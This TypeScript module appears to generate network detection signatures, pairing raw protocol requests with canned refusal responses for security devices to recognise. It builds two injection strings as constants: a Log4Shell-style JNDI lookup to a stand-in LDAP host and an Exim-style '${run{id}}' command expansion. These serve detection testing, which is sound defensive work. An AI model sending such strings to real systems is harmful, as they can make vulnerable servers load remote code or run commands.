import type { CveDraft } from '@rushhour/contract';

/** What an entry is about. */
export interface Weakness {
  readonly cwe: string;
  readonly category: NonNullable<CveDraft['category']>;
  readonly severity?: NonNullable<CveDraft['severity']>;
  readonly cve?: string;
}

/** One request and what is odd about it. */
export interface Entry extends Weakness {
  readonly name: string;
  readonly bytes: Buffer;
}

/** A protocol, its usual port, and the answer of a server that refuses. */
export interface Family {
  readonly family: string;
  readonly port: number;
  readonly transport: 'tcp' | 'udp';
  /** Where the protocol is described. */
  readonly reference: string;
  answer(request: Buffer): Buffer;
  readonly entries: readonly Entry[];
}

/** Bytes of numbers, texts (one byte each) and other bytes, one after the other. */
export const bytesOf = (...parts: readonly (number | string | Buffer)[]): Buffer =>
  Buffer.concat(
    parts.map((part) => {
      if (typeof part === 'number') return Buffer.from([part]);
      return typeof part === 'string' ? Buffer.from(part, 'latin1') : part;
    }),
  );

/** Text that programs expand; written so that it is none here. */
const expanded = (text: string) => ['$', text].join('{');
export const jndiLookup = expanded('jndi:ldap://lookup.test/a}');
export const mailExpansion = expanded('run{id}}');

export const be16 = (value: number): Buffer => Buffer.from([(value >> 8) & 255, value & 255]);
export const le16 = (value: number): Buffer => Buffer.from([value & 255, (value >> 8) & 255]);
export const le32 = (value: number): Buffer => Buffer.concat([le16(value & 0xffff), le16(value >>> 16)]);

export interface NetworkSignature extends CveDraft {
  readonly ref: string;
  readonly family: string;
}

const wordsIn = (name: string) =>
  name
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-|-$/g, '');

/** The signatures of a family. They carry the mark of an attack and nothing that would do harm. */
export const signaturesOf = ({ family, port, transport, reference, answer, entries }: Family): NetworkSignature[] =>
  entries.map(({ name, bytes, cwe, category, severity = 'medium', cve }) => ({
    ref: `network/${family}/${wordsIn(name)}`,
    family,
    name: `${family.toUpperCase()}: ${name}`,
    description: `A ${family.toUpperCase()} request with ${name}, as devices are expected to notice it. It holds no exploit.`,
    category,
    severity,
    cweIDs: [cwe],
    cveIDs: cve === undefined ? [] : [cve],
    tags: `network,${family}`,
    protocol: family === 'dns' || family === 'tls' || family === 'smtp' || family === 'ftp' ? family : transport,
    references: [
      { type: 'cwe', value: cwe },
      ...(cve === undefined ? [] : [{ type: 'cve' as const, value: cve }]),
      { type: 'url', value: reference },
    ],
    requests: [{ idx: 0, kind: 'raw', transport, port, encoding: 'hex', data: bytes.toString('hex') }],
    responses: [{ idx: 0, mode: 'canned', body: answer(bytes).toString('base64'), bodyEncoding: 'base64' }],
  }));
